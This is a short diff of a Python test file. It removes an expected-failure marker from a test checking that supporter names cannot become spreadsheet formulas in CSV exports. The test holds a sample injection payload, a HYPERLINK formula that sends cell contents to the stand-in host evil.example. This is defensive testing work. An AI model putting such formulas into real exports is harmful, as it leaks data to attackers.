@@ -141,7 +141,6 @@ def test_bad_arguments_exit_with_a_usage_error_and_no_traceback(app_ctx, args, m
     assert result.stdout == ""  # no partial CSV
 
 
-@pytest.mark.xfail(strict=True, reason="BUG: names starting with = + - @ are exported raw (CSV formula injection)")
 def test_supporter_name_cannot_become_a_spreadsheet_formula(app_ctx, client):
     name = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
     assert clean_name(name) == name  # the donation form accepts it
